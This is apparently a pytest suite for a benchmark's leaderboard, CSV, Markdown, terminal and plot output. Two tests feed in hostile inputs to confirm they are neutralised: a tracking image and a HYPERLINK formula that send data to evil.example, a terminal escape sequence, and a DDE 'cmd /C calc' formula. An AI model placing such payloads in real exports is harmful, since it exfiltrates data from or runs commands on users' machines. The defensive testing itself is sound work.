import dataclasses
import io
import math
import re

import matplotlib.colors
import pandas as pd

from bench import board, files, leaderboard, plots, records, render
from bench.plan import flat_params

BUDGET = {"epochs": 20, "finetune_epochs": 10, "limit_train": None, "limit_test": None}
ENV = {"device_name": "Test CPU", "device": "cpu", "torch": "2.x", "threads": 2}


def record(method, params, seed, accuracy, nonzeros, status="ok", standard=True, budget=BUDGET,
           source="torchvision:MNIST"):
    metrics = {"accuracy": accuracy, "params": 1000, "nonzeros": nonzeros,
               "sparsity": 1 - nonzeros / 1000, "flops": 2000, "flops_effective": 2 * nonzeros,
               "size_bytes": 4 * nonzeros + 100, "compression": 4100 / (4 * nonzeros + 100),
               "latency_b1_ms": 0.05, "latency_b1_iqr_ms": 0.001, "latency_b64_ms": 0.5,
               "latency_b64_iqr_ms": 0.01, "memory_bytes": 2**20, "train_epochs": 30,
               "train_time_s": 12.0} if status == "ok" else {}
    config = {"suite": "mlp", "suite_version": 1, "method": method, "params": params, "seed": seed, "budget": budget,
              "data_source": source, "model": {"name": "lenet300", "kwargs": {}}}
    return {"schema": records.SCHEMA_VERSION, "config": config, "config_hash": records.config_hash(config), "status": status,
            "error": None if status == "ok" else "RuntimeError: boom\ntrace",
            "metrics": metrics, "standard_budget": standard, "env": ENV}


def populate(results):
    recs = [record("dense", {}, s, a, 1000) for s, a in ((0, 0.98), (1, 0.99))]
    recs += [record("magnitude", {"sparsity": 0.9}, s, a, 100) for s, a in ((0, 0.97), (1, 0.975))]
    recs += [record("magnitude", {"sparsity": 0.5}, 0, 0.98499999, 500)]  # a hair below dense
    recs += [record("broken", {}, s, None, None, status="failed") for s in (2, 0, 1)]
    recs += [record("dense", {}, 0, 0.90, 1000, standard=False, budget={**BUDGET, "epochs": 1})]
    recs += [record("dense", {}, 0, 0.95, 1000, source="image-folder:mnist-png")]
    for i, r in enumerate(recs):
        files.write_json_atomic(results / "mlp" / "runs" / f"{r['config']['method']}-{i}.json", r)


def test_leaderboard_aggregates_over_seeds_and_separates_budgets_and_sources(tmp_path):
    populate(tmp_path)
    leaderboard.write(tmp_path, "mlp")
    table = pd.read_csv(tmp_path / "mlp" / "leaderboard.csv")
    mnist = table[table.data_source == "torchvision:MNIST"].set_index("setting")
    assert list(mnist.method) == ["dense", "magnitude", "magnitude"]  # dense first, then sorted
    assert mnist.loc["-", "accuracy_mean_%"] == 98.5
    assert mnist.loc["-", "accuracy_std_%"] == round(100 * math.sqrt(0.00005), 2)  # sample std
    assert mnist.loc["sparsity=0.9", "delta_acc_pts"] == round(97.25 - 98.5, 2)
    assert str(mnist.loc["sparsity=0.5", "delta_acc_pts"]) == "0.0"  # not -0.0
    assert mnist.loc["sparsity=0.9", "seeds"] == 2 and mnist.loc["sparsity=0.9", "nonzeros"] == 100
    other = table[table.data_source == "image-folder:mnist-png"]
    assert list(other["accuracy_mean_%"]) == [95.0]  # its own table, never mixed with MNIST
    assert 90.0 not in set(table["accuracy_mean_%"])  # the overridden budget stays out
    custom = pd.read_csv(tmp_path / "mlp" / "leaderboard-custom.csv")
    assert list(custom["accuracy_mean_%"]) == [90.0] and list(custom.budget) == ["1+10 epochs"]
    md = (tmp_path / "mlp" / "leaderboard.md").read_text()
    assert re.search(r"\| dense +\| - +\| 2 +\| 98.50 ± 0.71 +\| 0.00 +\|", md)
    assert "-0.00" not in md
    assert "## failed and skipped runs" in md and "RuntimeError: boom" in md
    failed_seeds = re.findall(r"^\| broken +\| - +\| (\d) ", md, flags=re.M)
    assert failed_seeds == ["0", "1", "2"]  # by seed, not in the order the files sort
    assert (tmp_path / "mlp" / "pareto.png").stat().st_size > 1000


def test_a_figure_shown_at_the_csvs_decimals_reads_as_the_csv_everywhere(tmp_path):
    # Two seeds at 97.02 and 97.03%: their mean is a half at 2 decimals, which the CSV rounds as
    # numpy does (97.02) and Python's round or format of the binary value the other way (97.03).
    # The views round the unrounded table once, and the same way: the figure reads alike in each.
    from bench import site

    recs = [record(m, p, s, a, nz) for m, p, nz in (("dense", {}, 1000), ("magnitude", {"sparsity": 0.9}, 100))
            for s, a in ((0, 0.9702), (1, 0.9703))]
    write_records(tmp_path, recs)
    leaderboard.write(tmp_path, "mlp")
    shown = f"{pd.read_csv(tmp_path / 'mlp' / 'leaderboard.csv')['accuracy_mean_%'][0]:.2f} ± 0.01"
    assert shown == "97.02 ± 0.01"
    assert re.search(rf"\| dense +\| - +\| 2 +\| {shown} +\|", (tmp_path / "mlp" / "leaderboard.md").read_text())
    assert re.search(rf"^dense +- +2 +{shown} ", render.terminal(recs, 400, {}), flags=re.M)
    site.build(tmp_path, ["mlp"], tmp_path / "site")
    assert f"<td>{shown}</td>" in (tmp_path / "site" / "index.html").read_text()  # the best at each size
    assert f'title="magnitude sparsity=0.9: {shown} %, 0.5 KiB"' in (tmp_path / "site" / "mlp" / "index.html").read_text()


def test_regeneration_is_byte_identical(tmp_path):
    populate(tmp_path)
    first = {p.name: p.read_bytes() for p in leaderboard.write(tmp_path, "mlp")}
    second = {p.name: p.read_bytes() for p in leaderboard.write(tmp_path, "mlp")}
    assert set(first) == {"leaderboard.csv", "leaderboard.md", "frontier.png", "pareto.png",
                          "leaderboard-custom.csv", "leaderboard-custom.md"}
    assert first == second


def test_device_types_get_their_own_tables_and_rows_timed_elsewhere_are_marked(tmp_path):
    """GPU runs and CPU runs never share a table; an int8 model of a GPU run, timed on the CPU,
    says so; dense-ft, the matched-budget reference, gets its own change column."""
    gpu = {"device_name": "Test GPU", "device": "cuda", "torch": "2.x", "threads": 4}
    recs = [record("dense", {}, 0, 0.90, 1000), record("dense-ft", {}, 0, 0.92, 1000),
            record("magnitude", {"sparsity": 0.9}, 0, 0.91, 100),
            {**record("dense", {}, 0, 0.88, 1000), "env": gpu},
            {**record("ptq-int8", {}, 0, 0.87, 1000), "env": gpu, "measured_on": {"device": "cpu"}}]
    for r in recs:
        r["metrics"].update(speedup_b1=1.0, speedup_b1_iqr=0.0)
    for i, r in enumerate(recs):
        files.write_json_atomic(tmp_path / "mlp" / "runs" / f"{r['config']['method']}-{i}.json", r)
    leaderboard.write(tmp_path, "mlp")
    table = pd.read_csv(tmp_path / "mlp" / "leaderboard.csv")
    cpu, cuda = table[table.device == "cpu"], table[table.device == "cuda"]
    assert list(cpu.method) == ["dense", "dense-ft", "magnitude"] and list(cuda.method) == ["dense", "ptq-int8"]
    assert math.isclose(cpu.set_index("method").loc["magnitude", "delta_ft_pts"], -1.0)
    assert math.isclose(cuda.set_index("method").loc["ptq-int8", "delta_acc_pts"], -1.0)  # against the GPU dense
    assert cuda.set_index("method").loc["ptq-int8", "timed_on"] == "cpu"
    md = (tmp_path / "mlp" / "leaderboard.md").read_text()
    assert "runs on: CPU" in md and "runs on: CUDA" in md
    assert re.search(r"\| ptq-int8 \(timed on CPU\) +\|", md)
    assert "Δ vs dense-ft (pts)" in md


def test_a_table_timed_on_several_machines_says_which_rows_ran_where(tmp_path):
    def notes(magnitude_env):
        recs = [record("dense", {}, 0, 0.90, 1000), {**record("magnitude", {"sparsity": 0.9}, 0, 0.91, 100),
                                                     "env": magnitude_env}]
        for i, r in enumerate(recs):
            r["metrics"].update(speedup_b1=1.0, speedup_b1_iqr=0.0)
            files.write_json_atomic(tmp_path / "mlp" / "runs" / f"{r['config']['method']}-{i}.json", r)
        leaderboard.write(tmp_path, "mlp")
        return (tmp_path / "mlp" / "leaderboard.md").read_text()

    md = notes({**ENV, "device_name": "Other CPU"})
    assert "Timed on more than one machine" in md and "Other CPU: magnitude; Test CPU: dense." in md
    assert "more than one machine" not in notes(ENV)


def test_the_leaderboard_names_the_code_of_its_runs_and_flags_uncommitted_code(tmp_path):
    recs = [{**record("dense", {}, s, 0.98, 1000), "env": {**ENV, "git_commit": "a" * 40}} for s in (0, 1)]
    recs += [{**record("magnitude", {"sparsity": 0.9}, 0, 0.97, 100), "env": {**ENV, "git_commit": "b" * 40 + "-dirty"}}]
    recs += [{**record("magnitude", {"sparsity": 0.9}, 1, 0.97, 100),
              "env": {**ENV, "git_commit": "c" * 40, "commit_from_env": True}}]
    write_records(tmp_path, recs)
    leaderboard.write(tmp_path, "mlp")
    md = (tmp_path / "mlp" / "leaderboard.md").read_text()
    assert f"- {'a' * 12}: 2 runs" in md and f"- {'b' * 12} with uncommitted changes: 1 run" in md
    assert f"- {'c' * 12} (named by $BENCH_GIT_COMMIT, unverified): 1 run" in md


def write_records(results, recs):
    for i, r in enumerate(recs):
        files.write_json_atomic(results / "mlp" / "runs" / f"{r['config']['method']}-{i}.json", r)


GMP = {"begin_fraction": 0.1, "dt": 100, "end_fraction": 0.7, "initial_sparsity": 0.0, "scope": "global"}


def terminal_records():
    recs = [record("dense", {}, s, 0.98, 1000) for s in (0, 1)] + [record("dense-ft", {}, s, 0.985, 1000) for s in (0, 1)]
    recs += [record("gmp", {**GMP, "sparsity": sp}, s, acc, nz) for sp, acc, nz in ((0.5, 0.981, 500), (0.9, 0.97, 100))
             for s in (0, 1)]
    recs += [record("uniform", {"bits": 4}, s, 0.979, 1000) for s in (0, 1)]
    for r in recs:
        r["metrics"].update(speedup_b1=1.0, speedup_b1_iqr=0.0)
    return recs


def test_a_narrow_terminal_names_the_columns_it_left_out_most_important_first():
    """At 80 columns the committed `mlp` table is accuracy alone; "25 columns not shown" did not say
    that the size and compression, half of the answer, were among them: the note names the first
    two it dropped, and counts the rest."""
    recs = terminal_records()
    first = render.terminal(recs, 50, {}).splitlines()[0]  # (the seeds, 2 on every row, in the heading)
    assert first.startswith("torchvision:MNIST · 20+10 epochs · CPU · 2 seeds each (compression, Δ acc and "), first
    assert re.search(r"and \d+ more columns not shown: widen the terminal or read the .md\)$", first), first
    assert render.terminal(recs, 400, {}).splitlines()[0] == "torchvision:MNIST · 20+10 epochs · CPU"  # nothing left out


def test_the_terminal_table_fits_its_width_and_tells_every_row_apart():
    recs = terminal_records()
    wide = render.terminal(recs, 400, {"gmp": "pruning during training", "uniform": "quantization"})
    lines = wide.split("\n\n")[0].splitlines()  # the heading and the table, before the notes under it
    assert lines[0] == "torchvision:MNIST · 20+10 epochs · CPU"
    assert [line.split()[0] for line in lines[3:]] == ["dense", "dense-ft", "gmp", "gmp", "uniform"]
    # gmp's rows differ only in sparsity: that is what their setting shows, not a cut-off prefix
    # accuracy, then size and compression, the columns that answer "how accurate at what size", then Δ
    # compression 4,100 / 2,100 B = 1.952x: 2.0, rounded once (the CSV's 1.95 showed as 1.9)
    assert re.search(r"^gmp +sparsity=0.5 +2 +98.10 ± 0.00 +2.1 +2.0 +0.10 +50.0 +-0.40 ", wide, flags=re.M)
    assert "Δ vs dense-ft (pts)" in wide and "eager b1 (x)" in wide
    assert "latency" not in wide and "iqr" not in wide  # CSV-only columns stay out
    narrow = render.terminal(recs, 60, {})
    assert max(map(len, narrow.splitlines()[1:])) <= 60 and "columns not shown" in narrow
    # 80 columns (a pipe's width) still show size and compression beside accuracy, and with the
    # headers folded over two lines, Δ acc
    assert re.search(r"^gmp +sparsity=0.5 +2 +98.10 ± 0.00 +2.1 +2.0 +0.10$", render.terminal(recs, 80, {}), flags=re.M)
    families = {"gmp": "pruning during training", "uniform": "quantization"}
    only = render.terminal(recs, 400, families, family="quantization").split("\n\n")[0].splitlines()
    assert [line.split()[0] for line in only[3:]] == ["dense", "dense-ft", "uniform"]  # references stay
    at = render.terminal(recs, 400, families, sparsity=0.9).split("\n\n")[0].splitlines()
    assert [line.split()[:2] for line in at[3:]] == [["dense", "-"], ["dense-ft", "-"], ["gmp", "sparsity=0.9"]]
    assert render.terminal([], 80, {}) == "no finished runs"


def test_bench_leaderboard_show_filters_and_refuses_what_it_cannot_do(tmp_path, capsys):
    from bench.cli import main

    write_records(tmp_path, terminal_records())
    assert main(["leaderboard", "--results-dir", str(tmp_path), "--show", "--family", "quantization"]) == 0
    out = capsys.readouterr().out
    assert "uniform" in out and "gmp" not in out and not (tmp_path / "mlp" / "leaderboard.md").exists()
    assert main(["leaderboard", "--results-dir", str(tmp_path), "--show", "--family", "pruning-ish"]) == 2
    assert "--family 'pruning-ish': did you mean --family pruning? expected one of" in capsys.readouterr().err
    assert main(["leaderboard", "--results-dir", str(tmp_path), "--show", "--family", "sparse-training"]) == 2
    assert "--family 'sparse-training': did you mean --family 'sparse training'? expected" in capsys.readouterr().err
    assert main(["leaderboard", "--results-dir", str(tmp_path), "--show", "--family", "xyz"]) == 2
    assert "--family 'xyz': expected one of combined, " in capsys.readouterr().err
    assert main(["leaderboard", "--results-dir", str(tmp_path), "--sparsity", "0.9"]) == 2
    assert main(["leaderboard", "--results-dir", str(tmp_path), "--show", "--html"]) == 2


def test_plots_keep_the_references_in_range_split_lines_by_non_default_setting_and_follow_the_records(tmp_path):
    assert plots._y_range(pd.Series([-1.0, -2.0, -1.5]), [0.0])[1] >= 0.0  # dense's line stays visible
    low, high = plots._y_range(pd.Series([0.1] * 9 + [-37.0]), [0.0])
    assert -37.0 < low < -0.4 and high < 1.0  # one collapsed row does not set the scale
    lottery = {"epochs_per_round": 0, "rewind_epoch": 0, "rounds": 5}
    assert board.series_label("lottery", {**lottery, "reinit": False, "sparsity": 0.5}) == "lottery"
    assert board.series_label("lottery", {**lottery, "reinit": True, "sparsity": 0.9}) == "lottery (reinit=True)"
    assert board.series_label("magnitude+ptq-int8", {"magnitude.sparsity": 0.9}) == "magnitude+ptq-int8"
    recs = terminal_records()
    recs += [record("lottery", {**lottery, "reinit": reinit, "sparsity": 0.9}, 0, 0.97, 100) for reinit in (False, True)]
    for r in recs:
        r["metrics"].update(theoretical_speedup=1000 / r["metrics"]["nonzeros"], speedup_b1=1.0, speedup_b1_iqr=0.0)
    write_records(tmp_path, recs)
    assert {p.name for p in leaderboard.write(tmp_path, "mlp")} >= {"frontier.png", "pareto.png", "speedup.png"}
    md = (tmp_path / "mlp" / "leaderboard.md").read_text()
    assert re.search(r"^\| lottery +\| reinit=True, sparsity=0.9 +\|", md, flags=re.M)  # no default parameter
    assert "rewind_epoch" not in md and "rewind_epoch=0" in (tmp_path / "mlp" / "leaderboard.csv").read_text()
    for r in recs:
        for key in ("speedup_b1", "speedup_b1_iqr", "theoretical_speedup"):
            del r["metrics"][key]
    write_records(tmp_path, recs)
    leaderboard.write(tmp_path, "mlp")
    assert not (tmp_path / "mlp" / "speedup.png").exists()  # no measured speedup left: no stale plot


def test_settings_show_the_swept_parameter_and_only_what_differs_from_the_defaults():
    full = {"calibration_samples": 128, "finetune": False, "m": 0, "n": 0, "sparsity": 0.5}
    assert board.short_setting("wanda", full) == "calibration_samples=128, sparsity=0.5"
    # the swept parameter shows even at its default (magnitude's default sparsity is 0.9)
    assert board.short_setting("magnitude", {"scope": "global", "sparsity": 0.9}) == "sparsity=0.9"
    assert board.short_setting("uniform", {"bits": 4}) == "-"
    chain = {"magnitude": {"scope": "layer", "sparsity": 0.9}, "ptq-int8": {"calibration_batches": 4}}
    assert board.short_setting("magnitude+ptq-int8", flat_params(chain)) == "magnitude.scope=layer, magnitude.sparsity=0.9"
    assert board.short_setting("not-a-plugin", {"a": 1, "b": 2}) == "a=1, b=2"  # no defaults known: all shown


def test_the_frontier_is_exactly_the_rows_no_other_row_dominates():
    t = pd.DataFrame({"size_KiB": [10, 10, 20, 20, 30, 40, 40, 5, None],
                      "accuracy_mean_%": [90, 91, 91, 95, 94, 95, 96, 80, 99]},
                     index=[f"r{i}" for i in range(9)])
    # r0 loses to r1 (same size, less accurate), r2 to r1 (larger, as accurate), r4 to r3 and r5 to
    # r3 (larger, not more accurate); r8 has no size and takes no part.
    assert sorted(plots.frontier(t)) == ["r1", "r3", "r6", "r7"]
    tied = pd.DataFrame({"size_KiB": [10, 10], "accuracy_mean_%": [90, 90]})
    assert plots.frontier(tied) == [0, 1]  # equal rows: neither dominates the other


def test_the_frontier_ties_rows_at_the_two_decimals_its_key_shows_and_reads_no_minus_zero():
    # a larger row 1/300 of a point more accurate reads as the smaller one (97.74): no frontier step
    t = pd.DataFrame({"size_KiB": [10, 20], "accuracy_mean_%": [97.74, 97.74 + 1 / 300]})
    assert plots.frontier(t) == [0]
    # a row 1/300 of a point below dense, smaller: on the frontier, its change read +0.00, not -0.00
    recs = [record("dense", {}, s, a, 1000) for s, a in ((0, 0.98), (1, 0.9801), (2, 0.9801))]
    recs += [record("magnitude", {"sparsity": 0.5}, s, a, 500) for s, a in ((0, 0.98), (1, 0.98), (2, 0.9801))]
    cols = board.table_columns(recs)
    t, ycol = board.plot_frame(board.aggregate(board.frame(recs, cols), cols))
    fig, _ = plots.frontier_figure(t, ycol, cols, "x")
    key = [text.get_text() for text in fig.legends[0].get_texts()]
    assert key == ["1  magnitude sparsity=0.5  (+0.00)"]


def _legend_styles(handles):
    """(colour, marker) of each legend entry that is a series (not a reference line or a key row)."""
    out = []
    for h in handles:
        line = h.lines[0] if hasattr(h, "lines") else h
        if line.get_marker() not in ("None", "", None):
            out.append((matplotlib.colors.to_hex(line.get_color()), line.get_marker()))
    return out


def test_every_series_of_every_figure_has_its_own_colour_and_marker_the_same_in_every_figure(tmp_path):
    methods = ["magnitude", "magnitude-oneshot", "wanda", "sparsegpt", "random", "gmp", "lottery", "snip", "set",
               "rigl", "static", "l1", "imp", "uniform", "rtn", "gptq", "magnitude+ptq-int8", "kd"]
    recs = [record("dense", {}, s, 0.98, 1000) for s in (0, 1)]
    for i, method in enumerate(methods):
        for sparsity, nz in ((0.5, 500), (0.9, 100)):
            recs += [record(method, {"sparsity": sparsity}, s, 0.97 - 0.001 * i - 0.2 * (i % 4 == 0) * sparsity, nz)
                     for s in (0, 1)]
        recs += [record(method, {"sparsity": 0.5, "finetune": True}, 0, 0.975, 500)]  # a second series
    for r in recs:
        r["metrics"].update(theoretical_speedup=1000 / r["metrics"]["nonzeros"], speedup_b1=1.1, speedup_b1_iqr=0.0,
                            speedup_b64=1.2, speedup_b64_iqr=0.0)
    write_records(tmp_path, recs)
    cols = board.table_columns(recs)
    t, ycol = board.plot_frame(board.aggregate(board.frame(recs, cols), cols))
    frontier_fig, _ = plots.frontier_figure(t, ycol, cols, "x")
    family_fig = plots.family_figure(t, ycol, "x")
    speed_fig = plots.speedup_figure(t, cols, "x")
    main = _legend_styles(frontier_fig.axes[0].get_legend_handles_labels()[0])
    assert len(main) == len(methods) + 1 == len(set(main))  # every method and dense
    pairs, labels = [], []
    for ax in family_fig.axes:
        handles, names = ax.get_legend_handles_labels()
        pairs += _legend_styles(handles)
        labels += names
    # each method, its finetune=True series, and for the five methods that sweep no sparsity
    # (uniform, rtn, gptq, kd, the chain) one series per sparsity
    assert len(pairs) == len(set(pairs)) == 2 * len(methods) + 5
    assert sum("finetune=True" in label for label in labels) == len(methods)
    speed = _legend_styles(speed_fig.legends[0].legend_handles)
    speed = [p for p, h in zip(speed, speed_fig.legends[0].legend_handles) if not h.get_label().startswith("batch")]
    assert len(speed) == len(set(speed)) == len(methods) + 1
    assert set(speed) == set(main)  # each method looks the same in both figures
    # and the same in another suite holding fewer methods
    assert plots.styles(["wanda"])["wanda"] == plots.styles(methods)["wanda"]


def test_a_suites_plots_do_not_change_when_a_plugin_or_another_suites_records_appear(tmp_path, monkeypatch):
    """Plots are a function of their own records: a user's new plugin (named to sort before every
    built-in, so that a style taken by rank among the installed plugins would shift them all)
    and another suite's records of it leave this suite's plot bytes as they were."""
    populate(tmp_path)
    before = {p.name: p.read_bytes() for p in leaderboard.write(tmp_path, "mlp") if p.suffix == ".png"}
    assert before
    plugins = {**board._plugins(), "aaa-mine": dataclasses.replace(board._plugins()["magnitude"], name="aaa-mine")}
    monkeypatch.setattr(board, "_plugins", lambda: plugins)
    mine = record("aaa-mine", {"sparsity": 0.9}, 0, 0.97, 100)
    mine["config"]["suite"] = "mnist"
    files.write_json_atomic(tmp_path / "mnist" / "runs" / "aaa-mine-0.json", mine)
    leaderboard.write(tmp_path, "mnist")
    after = {p.name: p.read_bytes() for p in leaderboard.write(tmp_path, "mlp") if p.suffix == ".png"}
    assert after == before


def test_every_built_in_method_has_its_place_in_the_style_order():
    built_in = {name for name, info in board._plugins().items() if info.origin == "built in"}
    assert set(plots.STYLE_ORDER) == built_in - set(plots.REFERENCE_STYLES), "append new methods to STYLE_ORDER"
    assert len(set(plots.STYLE_ORDER)) == len(plots.STYLE_ORDER)


def test_one_setting_is_one_row_whatever_the_order_of_its_parameters():
    """A record read back has its JSON keys sorted, a fresh one its parameters in the method's
    order: the summary at the end of `bench run` split one setting into two rows of one seed."""
    fresh = record("magnitude", {"sparsity": 0.5, "scope": "global"}, 0, 0.97, 500)
    read_back = record("magnitude", {"scope": "global", "sparsity": 0.5}, 1, 0.98, 500)
    table, _ = board.table([fresh, read_back])
    assert list(table.seeds) == [2] and list(table.setting) == ["scope=global, sparsity=0.5"]


def test_record_text_makes_no_link_image_escape_sequence_or_spreadsheet_formula(tmp_path):
    """Text from records reaches the Markdown, the CSV and the terminal: a parameter that is a
    Markdown image, a device name that is a spreadsheet formula and one that retitles a terminal
    arrive as inert text (found by a hostile-input audit)."""
    image = "![x](https://evil.example/track.png)"
    recs = [record("magnitude", {"sparsity": 0.5, "scope": image}, s, 0.97, 500) for s in (0, 1)]
    recs[0]["env"] = {**recs[0]["env"], "device_name": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
    recs[1]["env"] = {**recs[1]["env"], "device_name": "\x1b]0;PWNED\x07Evil CPU"}
    write_records(tmp_path, recs)
    leaderboard.write(tmp_path, "mlp")
    md, csv = (tmp_path / "mlp" / "leaderboard.md").read_text(), (tmp_path / "mlp" / "leaderboard.csv").read_text()
    assert image not in md and "!\\[x\\](https://evil.example/track.png)" in md
    assert "\x1b" not in md + csv and "?]0;PWNED?Evil CPU" in csv
    assert ",'=HYPERLINK(" in csv.replace('"', "") and ",=HYPERLINK" not in csv.replace('"', "")
    assert "\x1b" not in render.terminal(recs, 400, {})


def test_a_formula_after_spaces_is_inert_in_the_csv_too():
    """An importer that trims spaces (an option of LibreOffice's and of others) reads " =1+1" as a
    formula: such a cell gets the leading `'` as "=1+1" does; text that only holds a sign later,
    and numbers, stay as they are."""
    import io

    table = pd.DataFrame({"machines": ["  =cmd|' /C calc'!A0", " \t@SUM(1)", "a=b", "-"], "n": [-1.5, 2.0, 3.0, 4.0]})
    got = pd.read_csv(io.StringIO(board.csv_text(table)), keep_default_na=False)
    assert list(got.machines) == ["'  =cmd|' /C calc'!A0", "' \t@SUM(1)", "a=b", "-"] and list(got.n) == [-1.5, 2, 3, 4]


def test_a_records_long_text_squeezes_no_plot(tmp_path, recwarn):
    """A data source, family, setting and machine of 3000 letters each went whole into the
    figures' titles, and matplotlib collapsed their axes to nothing ('constrained_layout not
    applied'): a record's text is cut there as in the legends."""
    recs = [record("dense", {}, s, 0.98, 1000) for s in (0, 1)]
    for seed in (0, 1):
        r = record("magnitude", {"sparsity": 0.5, "scope": "S" * 3000}, seed, 0.97, 500, source="D" * 3000)
        r["env"] = {**r["env"], "device_name": "X" * 3000}
        r["method_info"] = {"family": "F" * 3000, "description": "E" * 3000}
        recs.append(r)
    write_records(tmp_path, recs)
    leaderboard.write(tmp_path, "mlp")
    assert (tmp_path / "mlp" / "frontier.png").is_file()
    assert not [str(w.message) for w in recwarn if "collapsed" in str(w.message)]


def test_a_figure_only_some_seeds_hold_says_how_many_in_the_views_and_the_csv():
    """Records made before the harness recorded a figure lack it: a row of three seeds showed one
    seed's `own time` as the row's (56 s beside a median train time of 51 s). The views say how
    many seeds it is over, and the CSV's `partial_seeds` column names such figures, for tools;
    a figure every seed holds is unchanged."""
    recs = [record("gmp", {**GMP, "sparsity": 0.9}, s, 0.97, 100) for s in (0, 1, 2)]
    recs[0]["metrics"].update(method_time_s=56.0)
    table, cols = board.table(recs)
    assert table.loc[0, "partial_seeds"] == {"method_time_s": 1}
    own = next(c for c in cols if c.column == "method_time_s")
    assert render.cell(table.iloc[0], own) == "56 (1 of 3 seeds)"
    time = next(c for c in cols if c.column == "train_time_s")
    assert render.cell(table.iloc[0], time) == "12"
    assert "56 (1 of 3 seeds)" in render.terminal(recs, 400, {"gmp": "pruning during training"})
    csv = pd.read_csv(io.StringIO(board.csv_text(board.rounded(table, cols))))
    assert list(csv["partial_seeds"]) == ["method_time_s 1"] and csv.loc[0, "method_time_s"] == 56.0


def test_the_markdown_marks_each_row_with_the_machine_models_that_trained_it():
    """`mnist`'s lottery at 90 and 92% came from another processor: their train time read 280 s
    beside 780 s for the other settings, and only the speed table's note named the method, not the
    settings. A table trained on several models names them in a column, as the site does; a table of
    one model has no such column."""
    recs = [record("gmp", {**GMP, "sparsity": sp}, s, 0.97, 100) for sp in (0.5, 0.9) for s in (0, 1)]
    table, cols = board.table(recs)
    assert "trained on" not in render.markdown(table, cols, recs, "mlp", "standard budget")
    for r in recs[2:]:
        r["env"] = {**ENV, "device_name": "Other CPU"}
    text = render.markdown(*board.table(recs), recs, "mlp", "standard budget")
    assert "M1: Other CPU (1 row); M2: Test CPU (1 row)." in text
    rows = [[c.strip() for c in line.split("|")[1:5]] for line in text.splitlines() if line.startswith("| gmp")]
    assert rows[:2] == [["gmp", "sparsity=0.5", "2", "M2"], ["gmp", "sparsity=0.9", "2", "M1"]]
